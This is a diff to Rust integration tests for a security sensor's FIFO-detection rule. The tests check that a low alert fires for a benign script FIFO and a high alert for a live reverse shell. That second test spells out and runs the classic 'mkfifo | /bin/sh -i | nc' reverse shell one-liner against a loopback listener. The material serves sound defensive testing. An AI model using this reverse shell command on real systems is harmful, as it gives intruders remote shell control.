@@ -68,7 +68,7 @@ impl Daemon {
     }
 
     fn alerts(&self) -> Vec<Value> {
-        let o = self.cli(&["alerts", "list", "--json"]);
+        let o = self.cli(&["alerts", "list", "--json", "--limit", "5000"]);
         assert!(
             o.status.success(),
             "alerts list: {}",
@@ -92,8 +92,8 @@ impl Daemon {
                 return (a, t0.elapsed());
             }
             assert!(
-                t0.elapsed() < Duration::from_secs(10),
-                "no alert for {what} ({needle}) within 10 s; log:\n{}",
+                t0.elapsed() < Duration::from_secs(20),
+                "no alert for {what} ({needle}) within 20 s; log:\n{}",
                 std::fs::read_to_string(&self.log).unwrap_or_default()
             );
             std::thread::sleep(Duration::from_millis(50));
@@ -139,6 +139,7 @@ fn an1358_fires_live_on_unexpected_unix_socket_and_fifo_and_survives_restart() {
 socket = "{socket}"
 [rules.settings.AN1358]
 SocketPathBaseline = {{ learning_period = "0s", allow = [ {{ key = "{exe}", value = "/tmp/an1358-allowed-*" }} ] }}
+DecisionDelay = "1s"
 "#,
             state = dir.path().join("state").display(),
             socket = socket.display(),
@@ -178,6 +179,8 @@ SocketPathBaseline = {{ learning_period = "0s", allow = [ {{ key = "{exe}", valu
     assert!(st.success());
     let (fifo_alert, fifo_latency) = d.wait_alert("FIFO in /dev/shm", &fifo);
     let _ = std::fs::remove_file(&fifo);
+    // No shell driven through it, no network peer: the FIFO alone is low.
+    assert_eq!(fifo_alert["severity"], "low", "{fifo_alert:#}");
     eprintln!("AN1358 live: socket alert after {sock_latency:?} (poll interval 50 ms), FIFO alert after {fifo_latency:?}");
 
     for a in [&sock_alert, &fifo_alert] {
@@ -237,6 +240,274 @@ SocketPathBaseline = {{ learning_period = "0s", allow = [ {{ key = "{exe}", valu
     assert_eq!(
         same["count"], 1,
         "the restored baseline should know {evil}: {same:#}"
+    );
+    d.stop();
+}
+
+/// A daemon with AN1358's decision delay shortened, for the FIFO wiring tests.
+fn wiring_daemon(dir: &Path) -> Daemon {
+    let socket = dir.join("control.sock");
+    let config = dir.join("sensor.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "state_dir = \"{}\"\n[api]\nsocket = \"{}\"\n[rules.settings.AN1358]\nDecisionDelay = \"2s\"\n",
+            dir.join("state").display(),
+            socket.display()
+        ),
+    )
+    .unwrap();
+    Daemon::start(&config, dir, &socket)
+}
+
+fn show(d: &Daemon, alert: &Value) -> Value {
+    let id = alert["id"].as_i64().unwrap().to_string();
+    let o = d.cli(&["alerts", "show", &id, "--json"]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    serde_json::from_slice(&o.stdout).unwrap()
+}
+
+/// The evidence documents of a shown alert, by their `sensor.ipc.role`.
+fn by_role<'a>(shown: &'a Value, role: &str) -> Vec<&'a Value> {
+    let ev = shown["evidence"]
+        .as_array()
+        .or_else(|| shown["alert"]["evidence"].as_array())
+        .unwrap_or_else(|| panic!("no evidence array in {shown:#}"));
+    ev.iter()
+        .filter(|d| d["sensor"]["ipc"]["role"] == role)
+        .collect()
+}
+
+fn lineage(doc: &Value) -> Vec<String> {
+    doc["sensor"]["ipc"]["lineage"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|x| x.as_str().unwrap().to_string())
+        .collect()
+}
+
+/// Runs a shell command line with a deadline (the pipeline must not hang the test).
+fn run_with_deadline(cmd: &str, secs: u64) {
+    let mut child = Command::new("/bin/sh").arg("-c").arg(cmd).spawn().unwrap();
+    let t0 = Instant::now();
+    loop {
+        if let Some(st) = child.try_wait().unwrap() {
+            assert!(st.success(), "`{cmd}` failed: {st}");
+            return;
+        }
+        if t0.elapsed() > Duration::from_secs(secs) {
+            let _ = child.kill();
+            let _ = child.wait();
+            panic!("`{cmd}` did not finish within {secs} s");
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// The classic FIFO reverse shell, for real: `mkfifo F; cat F | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > F`
+/// with busybox's `nc` connecting over loopback to a listener this test runs, which sends the shell a
+/// command and reads its answer. AN1358 must give one HIGH alert naming mkfifo (creator), cat
+/// (reader), the shell, and nc (writer, connected) with their lineage.
+#[test]
+fn an1358_live_fifo_reverse_shell_is_high_with_creator_reader_shell_and_connector() {
+    if !tests::require_root(
+        "an1358_live_fifo_reverse_shell_is_high_with_creator_reader_shell_and_connector",
+    ) {
+        return;
+    }
+    let busybox = Path::new("/usr/bin/busybox");
+    assert!(
+        busybox.exists(),
+        "busybox (Debian busybox-static) is needed for its nc: run `cargo xtask setup`"
+    );
+    // The network tool lives outside the writable directories, so only its connection can make it
+    // the driver.
+    let bin = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("an1358-bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let nc = bin.join("nc");
+    let _ = std::fs::remove_file(&nc);
+    std::os::unix::fs::symlink(busybox, &nc).unwrap();
+
+    let dir = tempfile::tempdir().unwrap();
+    let d = wiring_daemon(dir.path());
+
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let attacker = std::thread::spawn(move || -> String {
+        use std::io::{Read, Write};
+        let (mut c, _) = listener.accept().unwrap();
+        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+        c.write_all(b"echo pwned-$((40+2))\n").unwrap();
+        let mut got = Vec::new();
+        let mut buf = [0u8; 512];
+        while !String::from_utf8_lossy(&got).contains("pwned-42") {
+            match c.read(&mut buf) {
+                Ok(0) | Err(_) => break,
+                Ok(n) => got.extend_from_slice(&buf[..n]),
+            }
+        }
+        let _ = c.write_all(b"exit\n");
+        String::from_utf8_lossy(&got).into_owned()
+    });
+    let fifo = format!("/tmp/an1358-rs-{}", std::process::id());
+    let _ = std::fs::remove_file(&fifo);
+    run_with_deadline(
+        &format!(
+            "mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | {nc} 127.0.0.1 {port} > {fifo}; rm -f {fifo}",
+            nc = nc.display()
+        ),
+        30,
+    );
+    let answer = attacker.join().unwrap();
+    assert!(
+        answer.contains("pwned-42"),
+        "the shell did not answer through the FIFO: {answer:?}"
+    );
+
+    let (alert, latency) = d.wait_alert("the FIFO reverse shell", &format!("FIFO {fifo} lets"));
+    eprintln!(
+        "AN1358 live reverse shell: alert after {latency:?}: {}",
+        alert["reason"]
+    );
+    assert_eq!(alert["rule_id"], "AN1358");
+    assert_eq!(alert["severity"], "high", "{alert:#}");
+    let reason = alert["reason"].as_str().unwrap();
+    for want in [
+        "lets a network peer drive a shell".to_string(),
+        "`/bin/sh -i`".to_string(),
+        format!("`cat {fifo}`"),
+        "which reads it".to_string(),
+        format!("nc 127.0.0.1 {port}`"),
+        format!("connected to 127.0.0.1:{port}"),
+        format!("created by `mkfifo {fifo}`"),
+        "Lineage:".to_string(),
+    ] {
+        assert!(reason.contains(&want), "reason lacks {want:?}: {reason}");
+    }
+    let shown = show(&d, &alert);
+    let one = |role: &str| -> Value {
+        let v = by_role(&shown, role);
+        assert!(!v.is_empty(), "no {role} in the evidence: {shown:#}");
+        v[0].clone()
+    };
+    let creator = one("creator");
+    assert_eq!(creator["process"]["name"], "mkfifo", "{creator:#}");
+    assert_eq!(creator["event"]["action"], "fifo_create");
+    let reader = one("reader");
+    assert_eq!(reader["process"]["name"], "cat", "{reader:#}");
+    assert_eq!(reader["file"]["access_mode"], "read");
+    let writer = one("writer");
+    assert_eq!(writer["file"]["access_mode"], "write", "{writer:#}");
+    // The redirection is opened by the forked shell before it execs nc: the evidence says what the
+    // process became.
+    assert!(
+        writer["sensor"]["ipc"]["process"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("127.0.0.1 {port}")),
+        "{writer:#}"
+    );
+    let shell = one("shell");
+    assert_eq!(
+        shell["process"]["args"],
+        serde_json::json!(["/bin/sh", "-i"]),
+        "{shell:#}"
+    );
+    let net = one("network");
+    assert_eq!(net["event"]["action"], "tcp_connect", "{net:#}");
+    assert_eq!(net["destination"]["port"], port, "{net:#}");
+    assert_eq!(net["process"]["pid"], writer["process"]["pid"]);
+    // Lineage: each names itself, then the `sh -c` that ran the pipeline (one parent for all).
+    let parents: Vec<String> = [&creator, &reader, &writer, &shell]
+        .iter()
+        .map(|doc| {
+            let l = lineage(doc);
+            assert!(l.len() >= 3, "short lineage {l:?}");
+            l[1].clone()
+        })
+        .collect();
+    assert!(
+        parents
+            .iter()
+            .all(|p| p == &parents[0] && p.starts_with("sh[")),
+        "pipeline members should share their parent shell: {parents:?}"
+    );
+    // One alert for this FIFO: the low one does not follow once the decision delay has passed.
+    std::thread::sleep(Duration::from_secs(5));
+    let about: Vec<Value> = d
+        .alerts()
+        .into_iter()
+        .filter(|a| {
+            a["reason"]
+                .as_str()
+                .unwrap_or("")
+                .starts_with(&format!("[fifo-wiring] FIFO {fifo} "))
+        })
+        .collect();
+    assert_eq!(about.len(), 1, "{about:#?}");
+    d.stop();
+}
+
+/// A script's FIFO: `mkfifo F; seq 1 5000 > F & wc -l < F`: no shell driven through it, no network
+/// peer. AN1358 must not raise it above LOW (and, shown by the low alert, did see it).
+#[test]
+fn an1358_live_script_fifo_is_not_above_low() {
+    if !tests::require_root("an1358_live_script_fifo_is_not_above_low") {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let d = wiring_daemon(dir.path());
+    let fifo = format!("/tmp/an1358-script-{}", std::process::id());
+    let _ = std::fs::remove_file(&fifo);
+    run_with_deadline(
+        &format!(
+            "mkfifo {fifo}; seq 1 5000 > {fifo} & wc -l < {fifo} > /dev/null; wait; rm -f {fifo}"
+        ),
+        30,
+    );
+    let (alert, latency) = d.wait_alert("the script FIFO", &format!("FIFO {fifo} passes data"));
+    eprintln!(
+        "AN1358 live script FIFO: alert after {latency:?}: {}",
+        alert["reason"]
+    );
+    assert_eq!(alert["severity"], "low", "{alert:#}");
+    let reason = alert["reason"].as_str().unwrap();
+    // dash opens a simple command's `< F` in the script shell itself before forking `wc`, so the
+    // kernel names the script's `sh -c` as the reader: a shell takes input, nothing drives it.
+    for want in [
+        format!("created by `mkfifo {fifo}`"),
+        "written by `seq 1 5000`".to_string(),
+        "read by `/bin/sh -c mkfifo".to_string(),
+        "but nothing feeding it made a network connection".to_string(),
+    ] {
+        assert!(reason.contains(&want), "reason lacks {want:?}: {reason}");
+    }
+    let shown = show(&d, &alert);
+    for (role, name) in [("creator", "mkfifo"), ("writer", "seq"), ("reader", "sh")] {
+        let docs = by_role(&shown, role);
+        assert!(
+            docs.iter().any(|doc| doc["sensor"]["ipc"]["lineage"][0]
+                .as_str()
+                .is_some_and(|l| l.starts_with(&format!("{name}[")))),
+            "no {role} {name} in the evidence: {shown:#}"
+        );
+    }
+    std::thread::sleep(Duration::from_secs(3));
+    let above: Vec<Value> = d
+        .alerts()
+        .into_iter()
+        .filter(|a| {
+            a["reason"]
+                .as_str()
+                .unwrap_or("")
+                .starts_with(&format!("[fifo-wiring] FIFO {fifo} "))
+                && a["severity"] != "low"
+        })
+        .collect();
+    assert!(
+        above.is_empty(),
+        "the script FIFO was raised above low: {above:#?}"
     );
     d.stop();
 }
